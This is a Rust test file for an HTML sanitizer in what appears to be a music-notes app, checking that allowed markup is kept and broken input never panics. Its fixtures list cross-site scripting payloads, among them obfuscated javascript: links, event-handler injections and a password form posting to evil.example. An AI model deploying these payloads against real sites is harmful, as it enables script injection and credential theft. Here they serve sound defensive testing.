use super::read::tag;
use super::*;
use crate::domain::links::safe_image;

fn text(text: &str) -> Piece {
    Piece::Text { text: text.into(), strong: false, slanted: false }
}

#[test]
fn paragraphs_emphasis_links_and_lists_are_kept() {
    let read = blocks(
        "<p>Play it <b>slow</b>, see <a href=\"https://x.org/a?b=1&amp;c\">here</a>.</p><ul><li>one</li><li>two</li></ul>",
    );
    assert_eq!(read.len(), 3);
    assert_eq!(read[0].pieces[1], Piece::Text { text: "slow".into(), strong: true, slanted: false });
    assert_eq!(read[0].pieces[3], Piece::Link { href: "https://x.org/a?b=1&c".into(), text: "here".into() });
    assert_eq!(read[2], Block { item: true, pieces: vec![text("two")] });
}

#[test]
fn scripts_handlers_and_foreign_addresses_vanish() {
    let hostile = [
        "<script>alert(1)</script>ok",
        "<SCRIPT src=x>alert(1)</SCRIPT >ok",
        "<style>p{}</style>ok<svg onload=alert(1)><a href=\"https://x.org\">svg</a></svg>",
        "<img src=x onerror=alert(1)>ok",
        "<a href=\"javascript:alert(1)\">ok</a>",
        "<a href=' java\nscript:alert(1)'>ok</a>",
        "<iframe src=\"https://x.org\"></iframe>ok<!-- <p>hidden</p> -->",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">ok",
        "ok<script>never closed",
    ];
    for html in hostile {
        assert_eq!(blocks(html), [Block { item: false, pieces: vec![text("ok")] }], "{html}");
    }
}

#[test]
fn broken_markup_is_text_and_never_panics() {
    assert_eq!(plain("a < b && c <"), "a < b && c <");
    for html in [
        "<",
        "<a",
        "<a href",
        "<a href=",
        "<a href=\"x",
        "</",
        "<p é=ü>x",
        "<é>",
        "&#x;&#99999999;&",
        "<!",
        "<!--",
        "<p 'é\"=>",
        "<a é",
    ] {
        let _ = blocks(html);
    }
    let everything = "<p é='ü' <b>é</b><a href=https://x.org/é>y</a>&eacute;&#233;";
    for end in (0..=everything.len()).filter(|end| everything.is_char_boundary(*end)) {
        let _ = plain(&everything[..end]);
    }
}

#[test]
fn plain_text_comes_back_as_it_was_written() {
    for written in
        ["One line", "Two\nlines", "First\n\nSecond <b> & \"quoted\"", "See https://thesession.org/tunes/55, then play"]
    {
        assert_eq!(plain(&html(written)), written);
    }
    assert_eq!(html("a <script>\n\n\n b"), "<p>a &lt;script&gt;</p><p>b</p>");
    assert_eq!(html("(https://x.org)."), "<p>(<a href=\"https://x.org\">https://x.org</a>).</p>");
    assert_eq!(html(" \n "), "");
}

/// What people put into pages that do not look.
const HOSTILE: [&str; 24] = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"data:image/png;base64,iVBORw0=\" onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"https://x.org/&quot; onclick=&quot;alert(1)\">x</a>",
    "<a href='https://x.org/\"onmouseover=\"alert(1)'>x</a>",
    "<p style=\"background:url(https://spy.example)\" onclick=alert(1)>x</p>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=x><embed src=x>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<a href=https://x.org><img src=\"data:image/png;base64,AA==\" alt='\"><script>alert(1)</script>'></a>",
];

#[test]
fn what_is_stored_holds_nothing_but_the_few_harmless_elements() {
    for html in HOSTILE {
        let stored = clean(html);
        let mut rest = stored.as_str();
        while let Some(at) = rest.find('<') {
            let (read, after) = tag(&rest[at..]).expect("all that begins with < is an element");
            let allowed = ["p", "ul", "li", "br", "strong", "em", "a", "img"];
            assert!(allowed.contains(&read.name.as_str()), "{html} → {stored}");
            for (name, value) in &read.attributes {
                let harmless = match (read.name.as_str(), name.as_str()) {
                    ("a", "href") => safe_link(value).is_some(),
                    ("img", "src") => safe_image(value).is_some(),
                    ("img", "alt") => true,
                    _ => false,
                };
                assert!(harmless, "{html} → {stored}: {name}={value}");
            }
            rest = after;
        }
        assert_eq!(clean(&stored), stored, "cleaning what is clean changes nothing: {html}");
    }
}

#[test]
fn what_the_editor_writes_is_kept() {
    let written =
        "<p>Play it <strong>slow</strong>, <em>then</em> faster.</p><ul><li>one</li><li>two</li></ul><p>end</p>";
    assert_eq!(clean(written), written);
    assert_eq!(clean("<div>a</div><div>b<br></div>"), "<p>a</p><p>b</p>");
    assert_eq!(clean("see https://x.org/a."), "<p>see <a href=\"https://x.org/a\">https://x.org/a</a>.</p>");
    assert_eq!(clean("<p> </p><br>"), "");
    let picture = "<p><img src=\"data:image/png;base64,iVBORw0=\" alt=\"the B part\"></p>";
    assert_eq!(clean(picture), picture);
}

#[test]
fn abc_in_a_note_comes_back_line_by_line() {
    let abc = "X:1\nT:A <b> & \"c\"\nK:G\n|:G3 GAB|\nA3 ABd:|";
    assert_eq!(plain(&of_abc(abc)), abc);
}
